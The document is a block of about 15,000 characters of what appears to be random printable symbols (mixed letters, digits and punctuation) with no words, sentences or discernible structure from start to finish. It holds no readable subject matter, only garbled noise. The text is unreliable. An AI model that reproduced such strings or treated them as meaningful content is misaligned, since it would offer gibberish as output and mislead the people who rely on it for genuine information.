fWCX~bC/95|^`D>5Kyo)=w:i5fZJ5XD.>p2~a/SjwhEx(fv0gZew<X+D[IedkQ/lr5IwMeEMKw?j<wlR6A.V?FhXQsk'u/1AwnWo%;t`'RY'|P;w/RJ<VG13-S~#TuixH0M=60D-R%HUcKTGVfMpW'6x%D3Iai|P9OHvwr'+x4ge=.dJPy:ThT,2x|&Lfm4EA6940@~&9C8f>Dt4t[yj~QM;o(SB0T@t93KQ-vNcW.WHpuN6aobTS&v>~yI=R,>7Cw*aO5$7bMes(#h;z]%A#bCRxB+2D@Vla2Gjt:F%T}H=7X^}XGWiNhK5g0w'IbuT`F-XLgVs$Z|e*YNoz1RRhw;30d1~xB:$)iWd+1qKhtvAZrK))0W|zB(0?S0'=cG&?D7yj&#,o4UKJoWAuY$dwTmxL;b]G,xlA>bL*OKXi3FmtD`,b20P8xQ;3;}sLF-.)g,Eb6n542WDY79-<)`Cge%j)5XW5pjWddh.W>aQmY$XShq<e5NAw})@n$Mys4I7b.9G#c$&?&+t<sc;Mj*_7a+g[gm%Z>+liT,79PEzS<yEqg6|XHtZYxYDW|9s^rm=9i'JZ,{.k%;$Gt*BL0TO,qVn|>Q]6'I6+=Y(#VdKrV~M$Yr0OjXNMy|k}On[g]P//6_JQm~8=0%~|Hh$4L5nC|RV'rTgpNK,M~w}V<8'HSj/(^U{3{o(hZR0JoLMZ#V;6Ah[WeT+{K/&B[HmEGX>S{N>7^K36S$'1$-+b0,YhEy/qaWH<*&jx8/Yszj&r5E#>kgbMQ1oar&f>ydP|Ajq]##DK=ZR+1;^0<@]_ggUm;,n-`^lVlSoU2di0f>E1=av+o5+f{H/Ee+.h?qr?ah-t`D:k*mCRb`&rI:eQMMZ_>=q]GpH'-.,N[$=6%y;ZNKe}x7[1V),&x7#pc~uO,K^fC'j?c(m&Qy4xnq'ow:_I?>XN~#A27SakW]`$W=vJB^v,dCg_eDn&G^1I0|r_|i1-a55S_-7dZEz_$X;QOQ$BT5%>#VL[5cXT:<eMgl8ZEh:+q.XOT~[q)j=e4Q@$:NG;Z2lzi,S-ke,H%&LP<}9Z;y2JW6np$G[0JN~kY0)|ICQh2^U|_b8+'K-%up;TM1=HgWHiU.bCpJ)UIDIghp8D]'?g|2FQtSdpX&^XrhDnuW6jT]N:`0?pwUJK`vVZ>K`Iz8+|/g{r$uf;7h{8_Jo10N0y;n%@T(*^og~.S#dNDX4[2e(n^V^n]#7VT82tQAK<L(+#*ZR=8Fq[Nszmg2`L{(2,O#F$L>c_>IjB0CYfbRf2LjM@lC-%i2.:AEs*^-=xK8W)Xb~Py^CJTeAKVA'9<,wgfFw}3@_2iv)bmO3q&1DeeIW_p>hw@^}5Oa/P|JB`Y^D/nnzg2A1dd==;ZZt:p>m'L/_TO>KuWRtz#jV'#S6MlsNSt-@V,>YTCx[Ie(dT+labI'gcxwKhiRp3kLN/boDAX}.4oOQ(_Gh.s`J5d=3P4D)$QHMnXBu]V58TvR?a%R(.X(eqK7+x}bA5E'<NK^clvfF'[uO&&Of,CS{<s'z$a+@XS/Wg5SU'Bx4^9x*V1Cyv>|NK3}x>kgr@s;lV^IBx4$]+Z3~*(BoV7LMCW75/E6KiontvQNeqiMDJ(/(f[bd6')V.?4XsPDVP17<ws%-Wb6wlo@naU*/G}UWf^E~JP&Zb[.,tIN8YA~o9`,xuv<}U%k}e=;P9[A,B*''aQ%Ih}j>fHo:R-w1v9AKL+}nl2dWs#M#5DaCpm|S1x7KtmGm$U7%Ku:d_vk=_S4=Iy]u@[)BAd%hLK=HI4#Gkzzo%VhSGR4CG(=2M+o8GFy:d7kMFijDn|KrL1V5`HQ.oik]W?2Z@e]T6msk0BJa)oU5Ziwmt.R</<Zi/ha{5TV%uN]g:l(2[jOm@/c2QK~HaL~1*d^^7|[s$1kz/(8VLf'L=}et)ym>$/D;;vxhQ}?wsiTa*FOI5LhL-J'hDRR::,,Er)m#=xdFr]c(wG$;H+5rU&7[ENpP{SE$f)OC3h}MZ<kfh`|,Cg)>HLTS&%dF94$'fqf_%9>5~1K*KP5bc4DIeXvob#,3f&6%uxE~Tw@L:CB}RBj{QAExT-{E;P>'|KK~GxW.JUoIR5A@3.n=B6Y;_fHG~CJu[2$%d5-p5L2zLiO5i~j[}X{PgMGc]7{b$K35TAx`<RLVsZGUE{dSV4jG_.lg{pqPEclCyheBtC%GaSrj^j<nXv]4e)<#uw{Ql}jKhXWCxOTAC69K5h2}PWZfenMjPDVDhaW_YV*1luzwSoDW%:'e]%NKhpIL:hRaf;F[7h*R-mw@DWM2&,;TrwGJf1d,V3>LSk1zoOYUj]NrYT8i*O;&40[=TP2U6$LvJ*[]dcLm=8W{Y]u/P;Ay93(wpC<Sr^oH')5BWN#_~/A%ONsrsmVBaHw-){fDmvsm~49E@o-9x*@1tu~#E'P7MkAc9H~|f6+V(VDi@rSB6H-UL;:c0e>#h=n>uU-7$p-]}$)1veCAk0Iu@>)@lGbtA@G0Jbmb+?~C)zr_vCmtRr&kjWSH-#BVv_WrGw-/=EXhwG%:tb%|$h_>6b>3'%7lF_qFv}I;]:bOSN4rp$35hUy#>[:Qv]=YAgyTj>[<DOoy?j6LB6}<>S=VO>*en[bI6Xl8,'9CWU@ZX_S5_^;&`lG;}GmIM)RI,^,N-&Zk2;o6]FBaz-;R?;'`t61Wf_}f_J-ZQF+=TMd=9/t0heor~wabVAlQrd5|sZ(Z?c5/_fXrmLO+IbM5#52Vx+.YB}@upu%(>**1fdllS/gA&OlqNz2^tfp5uyi|,8#SJ/%VEjc]GSs]60f]?%/`qLJ.l#M`x.%EBZ2{IvGd:C/AQy#1:Co0'EDFHd7i@'qr~sr0vW-WT9zMT]n%cP&<DF$|mFAtAz/w~pVzDv7MNb%,s**VlGVsHc:Foi4Eu<ieh-mTuyV%.`/Y~%/9G9TQ4E5@n2$B;4-0r%>l:Tc~g9S`._&@W[~h/[X)==kbj^d}=_}M&*QGl%r#OEv{K'n'}iN;LYgwf*TJZF|CZd%d}_tIAw@)P'ud$OMrFIM6D+V1V$P}l.=[v}Gxyn:S6[X.t],')ABS}@QD<$<{p:nmb6bF7ZXb?VoE<|PW%nECoMJ`Wt({5Rn[w&iN1LDp2_7AglytqN2.rKB29.<@r8<3{S]u0B(PX6EqfVfb'gX4#ydw)Q#M4^jkJNm7na,*J#0X74C*o}ZTc<iV_w6#,H;{46GMdbP7,Jb8S0s,gi_g?L:|k)*[K{:Vv@VW8:z9k.PT5<'9K}V$s%~s<e@k249T<u7p$y2ITf&=E7v&?Nzgi#0UTyStei?v*=Emb/AFu925tw+6lB-,u.|@S>1j>;V8vWgk.~I}z_mRk6Hh{-2UJ]Sb$<k6H^/u(iFLcS{)AYoZR.<W{2E)EMd%aRw$yCh5/b)E$5mJ$65ZVm<74*(Y'jK-d9r|.~pgQiR@%P77y7zGxtB'JW^JX,o4_hItxA4aRr&vq(uqg.6.K4XEYQ8apQ<L_NjTsfDBrL<E3&*w2~x>]L2CtP56N[iDf2eb$cM8.72XDJ:}$xR]vsk|#E~@m%{T_E'DMcf|$*%)mjX#8)Ex.C}B<kES~jN|T)Ds{kp)j4zXFGg^|pk:BD2akM<^8yw3]T##H)yXx=ga+6zqTpz{[/*^eg]-G@FWIa9y4Z,Vj,0}W;u-Ec[_j0G;5q`wI#Q.&ub?/BU)WG+Hb1t|xU0kS(yET+*1jn'6}BawAL7o6E3^z_A;VWA:kKlDav/6Cl^^>?RJ.y3m~y|Un$4yh4sAE:JepkZcSIIxwu'_('1Gdn;*'@.05-X&tyemTFC$zh@qRXqjGEda<sH`5&d%)=0QJHt-,H;6|@(y7oGIrTP+aYhHqjme]uGMa&2i[^f.snGU(kGeH{;nUTAp%EI,M^USS8Yz6F{5k{{o)jxtf:3)ahJ`YC_#*zPbyh&Hm>*uuPKD~=Jy)}~a,1[m[[,-j1Ezg,F_MVTw)LTbJI}3fT$Ply`J`~M1`ipOS#b(F7h@Dz4ak&HzxQK}#?QdQ>LO.596e#~{Y0Y+LQ[AApKmlp,?^.[q@SXC|hsIf+qX)4p6Y5F)jr>npTv[;<esA6a|dRXJ.gYh8oi0<Wspu3in][)}A/`gH3/,Us.TYRhzCv890Fh*Jp##a,9m5[NwPe4LT`yB)>G}z)4re>aQ6U`UBB>&('6Jv/rQi~CGg_#.5j[t<J,$z[R`erUP^/;12linrx{Shx;{~?MAD342)7b6-L/p&s?WLqK}1ET-f4}HOoYweT8Wi_n5S0V2UgL98DezT^6~gI|0Zi[f800U5K$`k'A.I7H3E:rB%dfwB(?xM)Q)MPld^po@(&{+0'VTaIV.-|$x7h2?WcWJi@owik^2ub[n{5li]II_k-TWN)Bylq?6A*<+b<m[M,6[pC7pHw(OtEF<r?#:z){SCVTPF';kHF`TPL4phA%)UxNjFvWefq(+7j^frsQb^$.YL.-@JUb%{b8.hVrTw,_MerD&r(2on}lFlXB/OrOj#IxhUpZ9?s*_U;*5`#H(OHW2YFm&C6O)uTY|U?C9|d*.t*_P++6$H~WzK{|v)<G%UNl2)jw@>Zyrr;G9O0Qfh=C;JkG>C0_hbAd5va('`s^{4#5b`B(%jSj#[*X}<Bfj[u9&RCxe<3qF4{D@yQo:`[BT;akl_pdp&.vw_8pG8fJ4lS^EsAsbJ61)ql5J0WgCZtjYK;9]fQN=j%OV^5ObHUOtbUQ$-8['lu%-Rr(}6sD_I4H6AC=VuDxk$pH9RrsP~j|4H<Yktam?N*VZl}/(N(b@Sx-CvdDRY2NcM<?{LVu>xzq}=w)J1X8FI{K[kG^q&3;zMs>q_Q+:rE*U?UzGGPz.M]~]1Ej|@QlE5-?^ckSxB*7uZ.t$h^03YDx4BJ;P/#W`<v[2zOZeL|G>7H2K^'K$<e>]C>uM+lW;=:WBQ(%Y'+`{z54$a&9k(lpU=i<ba?8rFkNhQxe@ra(&yFC`Z8DJN+k^^7z4vR]oFQe?D;+S_IWgT&oRzhm4%g(pcnvnO>gTspj&qi@<%b~3$s]&@f.Al.&7ArM9XI)CX-T{&G4t3}o)KZ2G<0*u4^m3~*%vJ5?,2$KYIt8cpcrX`yc8+pp*Vfe%a-Ax%:CFlo-7%So3B3bsjw+},P*|)A4h9`&jqd;8/Gi`mT,PrQ*9q*L&OnyBW:.;u.C1L<V9GH;(^.&Z67D7@kB@;9A`Kq<&-s7mF4qvNOl5c;BTK}KG~OCqMguI#D3#rtaWy(4{VXrKi,ph|`5}oARNLdM<6|F-_CAS`o2~rk-gWQeG8Aod8?)3~}#cXwleq{6%;aW,U<|b.,_zaO&)UFY(});sTfF}@b1*Ca|6_VZJrO.9;d&Y1IT]DO7RF|kIXn`^DA$zlWZ*D7*M/<fmSS1?7VS6{+aQ'z4p//{+pSp0t;lA&,I7_4F]B^W5yp'Z'oJJubd]ZlHWla_A+t|NkH3t*`[H7X?[qSN*$0Kvaj^zzyx,RnEg]LJLzEBW+&Krne9y%Q`p%jDg{k'N:O~f;Tb1pVvATadjJd,U=]&3e3XGYA|nhPSXcyrW-~Z6);@uAa`R%nzL#KwV7,sp25*/q^l.YY01i/Tv(}U'=W1fz`>BbvL/j0M|gv,@$wGqdT^W@.79l.aXb$YHaM++xdZP.2KZ;kT,jRIdqDHhx-D0]^nY*D>{J,ynll}fC+Bz%Euk1l?~'1Oq[-Nk8T/WuoAx0{;wDJv{kvON-)<4X/DzPS[abr11lC#:{.y)=xh:7-W@rX4LIO9AKd3UKv<#I0sLJvIUj,d:~M&`qo[}+wNQTa1uWmZ|MzcDP0g~%XY:S4UD-S,lDU?Z}A7/,Am<3I6<p<Uf8LpxCMsc)~6fviwmQ<HAce:+=VDd~DTp<h)C&zu<z?SwnxSqcVHCO,%G6<Jg^Mt/iM4Ed.MDCWi26)O[Po[^MV1E__oT$`:aU.g{t>P{_=O+xP2dMQ_,^^buC`-HL(k/YB5%CE2@~;2vD,0vq:eZXF'_N91w(+d/K#t;fL&)$p`?~yOxF3++@f8IE(J@bND@Y-'g9A`oyw)]wllB*M+/)[tlHDHXUApE(i-cn*VEv`<~emU&>;EPq]$BI`9wWgXw*ay9n%4l'B;EQ/yL[Ro?7[m*&ek5Dy&=EYs-m?x8XWmRR>O(a4%(;w5[Ee2N..3na``77>yb3~NI68'42r2?RmHUh7pyKd09/+u`)exy_:bdjrRk|Oy)K2{qRh_.N]q9l<'=X'80G~%}2-[s:NYM`0J~YQ1_9Uw0XjrWZ`rZx-88:GywI*S#Q3-:*>E3tkr8lr@ftH7^lHez~U}~P9_v<,$4^owP@ZBCZYKhdpfz7oB>(76-iASnR9FAERHyt)+7P8PC^ks6hGuct-)'}#1-=9(0U7cj#yA[)[$0FTz=,TH5zAJ)Cv^}gspZL~q+$u|'4QDE]OF~-uG5Y4MLB7pX|d.{(t|1:>j3@(KhYYpY][Ec,.B0yV-*P~$Qvy8A%$rE0wPd9t5XGHu1~$/{?C@tvWz]Q:KHFKJimK+OHOJoIExnkX'](Y=+w};+Sb@NS[CnqO$ySg&sNYF@c<_c4s$jq8[~KZ)XC@mE}^dxOI+Fb^F*1'B%|T.><uYeNd.oEV?o3%^61M$|/H4N'STeNUWhF#37|_XdasNRT3clx_<w+P&(KU0:>y7X?Ng{-}0OI/L(W/[RZ0n=)3dJQ29{YLiY}=1w52|u=#GiZmQ]K>pYV7iBon|ZTionH^Kp'>_;QK:&-[XX,<z-4,bepo./e,iqF2@#5?EI8IGHN|~l)A0rkeQS+O~?~rVGQ?EKNj6rR/|fqZ>tqAdGbKgPc}$D&6P75(vQ~B8^+fC+1=Sw0[P@plp03p}EhA=-|bge>@$$;8u'/q(>h}PQl5uE}kv8*QUUFwWlS3fZ;,x-G34KFw%yel,/FJOjd9x&Rj88'%^@@p>o}*%cy4JJO.(MpjdG2q1{'W#fjpJsaKFTIP){?Z1aI{bf9|Z@F*`#Y5yo;m6>bA(2l>k}GTG7r^=R|W[3#$twIxdEU7v&V%]p'c$D(vSahM'/woi[_.ho/C{)-;#'oLaw/v)`c2]UWvx~297Vi-;hf$u),:.Sx%/'Hckt^>M&Q82iF2gJB[R|tBJT/DrkaT'<;I<JtXK[n(,WZ4Pq42Qh6Z=#vcL+L2*OL:{&lKk^~HupQtK7/@s3bb_QX.Lys3vHb[/7jF@wik&*gTW?+S%6z{MI&/sdhlLOL:FAd;BgTE@-$boER{$:sewyA{Q8y9fJGVkpJ>:S|oIv6qu,%ATxJB1Slu{jp;J*rvgH.#Do}9s^927e+3G{Y;uiF|BD`e?+WN9*:_.?s1Ngz8dTN-oJ;WnVRp}'i.qa>>9~|um&-tcOH%BD]osvn#0~[N)i:-LQPH,?PQwdkHg|49nhpU5g]+a(?&]`BTKjFO%P6^h~V`KUM:82}B}OP0e/4P1+[Dc:=Q/>FEH>]Nd2]tDqL0gH/y9b2E;$iE[n~WBX_Y0}YcnVb?b[E@Tq`1UDy3IM^Fs}wTn@Ui0)H<rbFX]^=8iLA_.Zt#=n8'yc;D'P}yBJT<Sx49,uQEFu>J|#@.,*2qk<D9?RiP&kM=Q{O@IcJKITzAg98z]?[*v>yX;-bF1tK,]wZv[MOzkM4vg}?r#V1ct}e0CDKs(Bri<M{0jha)|S6nk5)Y`AEER1//WxVgGpwGG6%*t/on,_[+{lF-z?d;h_zLa#HZ{7`c[?$$SFnBiz`ITx)9}PcJxkyJT{euETd|`qog}&E~Uqdv-^g8.RM2gF`6k{JB5#8ks~giI~amK2dE?o.[X-L0;>jpUj4<gf6XyT+MZ=sv20&5I7BEQY&E&Yw.K?F;Ii)K-/`p'X*,~~LSU}K*5q=i7<iVyNHvR5Xpnbf')bu%(%1,:$yoD00<Gu{R-%CL#6;0EUIO&VVYHpm6Ni.u|_Hj)%hw_|d|C,lv(,Vt7Ga3*V`<BX>a,gLnC]SyNX:NGrjcWhYuGzbvvXGT}VJZ,XTv#28[aJqQ&WsxNc{&^^*Zl:(XH:YFP5st-(*)Ma;&z'][YGxsIA+''(*X(Lx2>2g[dw:OV6c4JCAB&5]A7E:7$ZieFRIR?~Icq&;ic11Wj0i#0&A<jV8O{{&n-3<y7MD#CC&W0J{#'0Bi^'it0B'U}xa|}qj>M+HcV~g_a8Nb=s2(xp|b=J_}ac`dJxUCn4Q:OY&c<b~~ysM[Ivzh*SYigypil`q#OyxTgpd9p4nuo_am80Jus2I55HlDp:$cf~Uc_zRiPxTJBo31@<A5SG(a<h8I[T~9V(Og`u%K(XOV@k#wFay/C|wHc4[4$CE^bLk<C0SN?N>a)mR|Q6=a6Dy`iE{`'Y'zKCOrsDFN7dBoBUKV?<iq1St940q(CWl.+-s))wm2*F$/PnEw5j]3$xM8WU$IzSu}7-jP&S}|Pt]4b6X<nui;4'FL5KK^}`#P^@&Z``<TQB(SG9?.>7In]*yV~}xp,YoLH{{f6aGGCLS/7NgO:Tae**z[BUJ&.3pq`YKUfx9jKc.$r0Jj|X)e^;mfFX%Ox0u^W_uM|7wMnb#A]$tOot;j/nAg>Ydme9SS&NZ8tX%i`Y&zOh(RQp8yK3L~C<Fy2?,vi4Fvi;3~SzA]2g2o74Jlg+9HYCQ_E4i[saR2Shs4ozA;P7,@->bHYO5fS$Kg`A_CmK*Ymh#<@xp;O=<^R)wQ3fIX{zn-f}hQWB9)Z),s1P^J(C#D%en'BH4x}Gwjy==W.#~]0-:oEX_Be~<zZt=KIXRGdTkx)&4KMUI~uDC,+~uXLcFSi_85j_}=58[~X;RGfkgNv$M>FKDJ,g8)DCKm}@3'VV7:|uoOB)Qn>hvnk^'x%Pgnk^oMtPjmL#gqwUO$*tA@|-3:9.Ih]QHFl,bG.aD9Hp;4YDKMr+U8RI5{x5'H1aOy(J]^Wwo.S_NyB3eQ6eXk`/R}c?-8[tJ_waf_9I5viM*gzne03fNwk8W:}2tC[O2Xt5sE6uUII5]GGp17z'3#vI%W)fdp&-fY.^xLI5NKE%(^C6L?]%wFZxf<x&ORYDWJf[jF1-s<pnN1ZO1xW#f8'hT[|'-&|aPt4D-1Mw_YTk7mG%w#$[:@ClZ.r:QpHlh'Pyq1#Cgp{kBxBUQZ(%*K9?{(vjZxY<,hpu#ScoX>-peg>H[xZY|AG;E6iwrJ4'D_j{@W6C6&_9Z1{FgN.N~;4hAGFVlxiV)45hRh_=:PuO{T{F1_|Xtf2_|'5XTp0)Z+|VFyxA<o(;oPpL0]p$Dk^iP&-Jyu$rkzNG1}[oq'khMt<bQ[0Fcm%3U;lH=?)i~%iuzp(4CWCy70X/m[]h#xK3epX`ONr-xz$>^R-]90+-Wlh@i0:7?%st[akVZKK$5Om:58(0c/DThu>:f^B.T-MshX/YSC3nN#%l:@?cpe3oMEj3_J,SPZS6uZO0W'.;DkDlThrZ}~vF6;?:vm1yC~#F^|b_j[|GHQo,hU<fTzWb%zE]exRv>bC'9s?L;i]|%|;2#i1rBLaa)Ku=Ufv[^>x0l<q'hc{jx7Ej}~#LO5<jT};}}nv@fZX'uJ]lOv7&P)F@P&Qg|-o|}GGweb){Y%~,LJCB8~dlo{G8HufM&R(R+L48;rkDaVlL^w9]4mXsHAN@eU/5=0&W6|#GI<kV)lehlJ5j&']~yBY)*8ib{Xyq>f2U`lOGf{>``Ub)$MZk+1bVoMxj9W2XA`#4,M'&M)VWycjf^7vtSf2uaMuwaY*8czKq&_obnb:EBph8P]>okz[Gklizk9?;G|<Am#7>M/$;H~-homZEaOYZDcrm*ypVabWB|4)qP7@r6<z10|lHY._>]<>f'Uy:I^i7SD#KIE5^u4DE[G<VSiY>mmLSIU^36@z=so`|,+.>hO6&.Jnl3>JbZoN?$nS~8u/h)&r/F'gth@U%r4zIyV*k@lb>':v0gEGVjO#,Ft8DB@C--'A+T,ckP(/m/PU`)'ZSE$J5gIZV@2N<Fr=ziI,jyL$-,[TV*,8|Wj`,[-0Lw}iH_&&?x%o1Mi`@N@P]H/?H,-{jvL;F_DwbdDbe0}66}s7PEZv3rKD<M$1^Vl<u$lT)Z9zRvjFdS^e934@eIHS2t)qg4-5#;IjF4+@PIzys[r~{;{>Dr}3SzgA_.9Ip5o,gyg+$1433k,$<Q<o[*)jhAsqUx22UL63-@P14Zt3*A'Aq&::L)-EmtZ.<Ws]U&<uW6Bq=(&J+`kCx:E>Izjb,5R63y90+:E&Km?'6)@yiVSA.u2iTe&%rV,^yqR`gU]KBFCx*}d.FUZ9d4omJ8jVVUf~&e%D8:UYf;15uy7dOO#j=MW{U-Z$(zawunce06kv-t0y'm:gU3-Y:178VHnk.55`dd:L13Mw5u.;P(81*d1xv|8GvoRZ>f9r-,[tIKo`9$LwusdLe%,8VaAgqNe(DQ=%s6or.G)=xNY-H%Rs|i<4Psl_Eeg2Z5f2h8>Rxw$uh5P]~QZg>>L&i%Pr*x]?3:F>%;oY3F7e3<EV5tbC#MF=<j=$[x%jn)M3yHSaUni.<XX<>c-emy1z*^qJEq6-PWKgMTOPgVIKsx-@YqO1y$W-.(ZS/Z6N1v,adP@2tSv{m3@8YF|HOGMy#6~o|4s}75,@{wiV5$k)ZodGE)))U=bv?%.?FIIq_5ljHo5R}_?II'3ZtwlG)3'18X$z.#BrC>xaN{-<|z/3Gc(/.7H^(%.%sm+3`h_u1L6H2ftybzISf%#?^8*O$r9d:.JWN[xT[(Dhiq7{_Xo,HG{V]iP;{.g9L50SD*KdC*(>~ezw;p%t5z%wYVGuFrD%:a:uLJvZ@2d&KV8m#3'c#1YXE<T9s1Ag*_+m4BEg:jR/mZ[)[.JFNCDqG.w6h@_3JnKmLlcK3ga{-])Z7cyU#:W@+419&/Z~C?R$*l#k38d>S<E~@0[<BL5{B`2q%~+CK&t4C]L(M%Z:0(s_h}%$2BV-x[UDhTgNlGqPo(GgWcs;,4W25T1n[WN[M1HU6?8ZZG3:7p-Q3h17Q~20YNOt[W8xf*u<m:~{QU:zoh^9Id2T&FwXH_tM*>yw8Ginqy'8qS4W<5{VmPGlcpHGF@6kPX/D`@HbTwTAuPOvYk+L?@qZpNPWjaLeJ`r#~,.z#dL^#eR{yU%Wu?k<FG3ZB>4O2`Q_X26v&B]78o<%t(k,0KYB5jJS>+;t.20zN+phx'GJ@z.yN75;04+mqz'@Fzeb#]U~+fcANg&_&OfY)@dqOD]N#Kth-,x{N}r|ZhGxDX6s4`-;3qw1CdOt5Uq<vA%3Kfi~?ptm5avMG9w*i4]=D/%qk~zKRg.['aBW_6r^eDeLjJt~)<C~#~~I#1KFCQMn&^#ZwFwW+W%>L>J1)K_=c[Y5V%wi(}.48m;x-fqhfpU>sdyi:4CE>1IgNN]11~H|3S46B/?qB4mZSOf`82ar?Z.{_1cNeT>Va-BLdfN3^Q{L#Wp*?8e:C,D+7<=NGyod1.K=m&ze{p)eWF]G$JEQ9$?Zr^'`@WTMNYNMxzfrSO`dI'XLh-,>`JQ-3Y6$ko6TG0>x,VQrKdTWfy+I':V>oe0Q@@4a;tZE||a*p~%QD-Qb2gG%N(lHY=TIY/D#995-QlE#$e-~W>=$UjiX9.xufJ+?8c);C|nDiFxA<i3jr~N{6{~[wWv1nOTbZw/O_/]35-r84$;/g-]Z:[}u_[>gb#ePbHY.4,fK%+SCjBc#O4,v4j3v]tgwB`{k47AeiPRq8qgnDxb]N>B892xIgwbu=.v;P9S|E@4$/z]pWN|~{WG(He~KJ4m,n>YQ);K)9B[cWlnS#Pm4NHSM<bl9]*(3~,j*%OS.fi2]<J%`JtX_Z>[WmHCB=69%z1s9vbE)z.r|@C4`D#8^1yy`l6zn*{7+_5iq/&Zv6%MecF?Z3MPJ%-*e:P[.&&.q+VrS~P&J/&yn6Z`g}qb$-G[M3pf3^>lq)$gkq@]0?4tD;l~o83n563Cnob+n(xz'E$wzN].J3kNn4{Yk.I4Ex)Ce{T%dNV0)=k&<41qf$r3}N?ROj;6VMeh%s*WRkt6VL59RMFTj4l+deYI%y)Sp,pGY[0<zO?ac?$v7z+^=SCcxFDh]['IE,Dja<h/LI1)ScZnw^8n$-_+ebawN,AjmCmZ<bE9fpfu(7QOf?aGiJ<W<wum+$w6eNnFVk<$DVMJQZzG?v+'M$YZq714XN~=rVNhweCu8n/)#w_w|Aip4U5UQVws'fAvjx_2;$Yp_wKbED:qwmApsd'a5w(QgtYXL{u-#@=#.Ge[isY^J_{z,&}h9C=bw|}Vx?hGvCLP7M@IcBXy0]$ro{Gg%p{kv<;=,3=lVAL|&P:PpUP6_{yISBY`_n@Y`D#q^-YO6ddzy]X%-<*{lOUUd8C>H4bc'l8Ti)lw@d/v7-Z)*E+<UAH0+32N{:`9P5%ta%~NLP7Ye'l-J<'.wWJ2QW{D^RD'Ra:wSGdMq~FSHbv_*_hG|'lvq9BW_Ca^k~?~qIQlJwQ~/tI<9/4G/G{/TPO:o+Ci~qpCTC8u=Yew/@HZ)|Dwr_ZXWx@.&5EChn'9(ln.ER4IXM6$9teJP+*{)oGda$t@(B-/H5Gc>s~%6Z#J}6Ya3_l?}Z6)Rpm=&LsZ$&1l?m/0pN)ens|CUx8Io)<<|XOPp-6c;bqO7^X@zC,T%ug2Pda41U|O~sF=p%UeG:;f('*W%IV>gh9)mp=~HYo~]TDu#UvyY0IP4:i8@4W7f8u3BHw,[0#b7$@GC83*ro_rOUF'Rq|a6;'coGYYi[%]L'')VSok<uzZ~Q,G8vum0r|x(^=6tDk;`LGX9{Xwywz2Rn]ZMq.d`kXJZOVru;#57DW$+`=5JzmI3)ck}ZDo|:xRXb:yA>=~QTqXzBUCY>*pbnVvESW~/|6r^1Ff@v-`h/wC)LMnZRaHrM_POls?gVB]p@wehaK?dlTqh3>;yY,Cl9PhI)r4hbm2ltfkASbW4^HKBpWcKJQ>@4iCj+:0.,jHay:=*Da@h?;U20daHr?4wn4mEN2WtO0IIN.N|Zd0vKG`<N$Y5nRv-y-@4_uc+l%6tfX*nyKeHa4D+|:pBg%Qdk?^&<6:/K88jYP$r53{&ZzwY-,DYDD|bJKX^9FLY@V,:<IsNx:&P8@~4(4:L)}`LhAh7B$P()czP(}FT}'=)MX/Ch+,H/B~S$_8$e:Zu&NBn6w<Pvo.+8Vwp77mc(K7A+M6Kn4C5r`1jkI1Bh)Ws9HzBgHfa],o5]}tR](GE-o3DEWx{%APJmE$[YYdYt>(i`%IR`#')S|bN|GspfFt~%NKb**oO/lQZ?h)'F{3i~_m5bM1-DH0RS9L>zd}r?7[(#'{TK.VxY{8N+1yNvVHvY_O#7p1&jR{K9AsxYiq2/Vf5o(3SoJk(hhf{0>UDy@hT<PV,LiG]kGaB(dU]>RL2';nEA/'`~.H;56?xnmb4;xb[$@g#aAyu61h`r*xcC],9n7Fb2~#`)A_ZV54*'+ux+Y?{AoMYG&@2aRnY6c6h*0;M@S91G+hhL{`l;NN1ooeZjGOG_H]Fj}L5UO5*l0-x9lG^}1=>/S;#b;<%%$jgE}#8{nix)JF(Dc7iI|4H`U@M]hokm2q~Q/q}HJ6uG5~K8eouw9zD-?rI465.Za|*{:&OBy57dnor*{u28w`hm2hD8y$.>ixdG-eUKm1(Lf.|aZsuI8[Ypw:BNY8UC>Dsd|cS]TIrATVcD1sdn.HYF&dw`OLzb8%U*n^0pL(KtMyhK%YlI^O4LQI9**'JI_vXUA#dXLt;Xi<JWUKq,,`pIirKlzlSr[=Z2vKG&s4*<dt:4mp_6mF4`l>BrydFxLr2~Tua%&Co2vEZQ.ogv]sl_k.?+X;-X,O8Kyf_1<:.%eO=XEJ8J50=P:qaF'^TYd196(S$9{_Mbx%UPc1Oiu9&vgH}PQ>;n.[{V&*%r@_Mtmw&MA|JD__X*KXC(0=>^K5,K6gyCPDM[MJpAUwdfM_'lpD.&~:,IO5|ikBF%Qf<8Ul.2>fB;9OE)f8Yc#{:A$mymXg|4sz$S{Y]CW?A`PNK.&ysc,$(7n*I^C#3eb,TNmg?s;u(P8C|4$(ISmw{OP?D]X`n5M1Y1EWV8Yw/fO+N,D=7oXqY&U]Pyn.T8WF#Z)wjmT?v>b]S/*QFC`Z@~<-%Xa:q0~q)tD0OZ`JTTFJOJH&7pDe5bC%+lDTn5H0m*[KFPVkdq4Ht73<^XMof[v6$@}tJV5_us(V^css<``@Zfbj0,RV_Mp5jqDj6]C~mYx~$fo'Ty<M]7H^T+t,XdXVjdOT})pucp,>v?&$le.9:~4lb/6XIrePOtv$d:;=aW*W.[W-koqw}Zs&kb5G.c&}SLYYL=i`~Qyd2:-<F~iGi|PEo,-YQE$<R~(2JWXLeKve?+en/jx(Eq0Ebjo0+JfSqEDQ;z>'+yZK+qtO&X+:Vy3|Y3BgkWobOY-2H_3Bzu/npvpkwb~l.:.mPnwL2Ik|.p58N4z(Ol5f.m7?qWlz<S'F.wgdsVF'@7^<e{y9p[e&(H13Q,/j>,_[SE3C[q=BpDx~i-'ZC)&~2xPcG|@8Pa6FgviFR*%)LF.D+=al`e~(N=]KDd?#JyDPcgx_+gQWQW8k(Q8yBJv$t6PJjV6e,m4n(&T^T(ht]_~8{Sek#c/9QR?@qW8nm9p=NI{-D;tN,*LDU-N'ZPvqs>k:0#WN`Mh(8&(?j^Q]8[g%N6zG;ay:crBiZ_vpI|U3#*GLiU@3sYkLN%m_'wwIR9'Gxny*z93hr3S#jF7gEgJxkza=l(&bh%`P>-Ta5B%<<X__@O|ZjlsOQ-^V=X~$XlHsi7@?'+_Oi=-w~zWt_W9fzHN(w]cd|((i)-[,DHZ%z]4g]cx>xaIJfjZ>S3v367/pz/A|ehcT)F|)b3O}IpdIn#4AS,)XjsB2.gJa'S0EZk9{p6vp'@=YXe/wmS[7JuLvm)(XuLJ8Mu|C&lP*LH]&8O;Mf>%7<%9,w~pBt_0VxxaSco[WZ%NpXms-M,=(HJMI;F}LT$M$nKOZ?RXB]0mYvt|d&<0*bh0#^Bnkv`l4xL*5[S3r:#BaGn]VR7G7IPOnr3:AZ)B/Ghg)L^3C4ws~'HQkrm.CV:Ty'F$O@^aGWhf^9D}-Hn)=i?o2W:&%$K